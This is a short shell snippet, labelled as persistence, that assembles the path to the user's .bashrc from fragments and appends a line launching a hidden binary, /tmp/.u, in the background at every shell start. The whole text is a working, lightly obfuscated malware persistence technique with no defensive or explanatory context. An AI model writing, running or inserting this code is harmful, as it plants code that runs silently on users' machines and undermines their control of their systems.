# persistence: the rc file name is built from pieces and appended to with printf
rc="$HOME/.ba"
rc+="shrc"
printf '%s\n' '[ -x /tmp/.u ] && /tmp/.u &' >> "$rc"
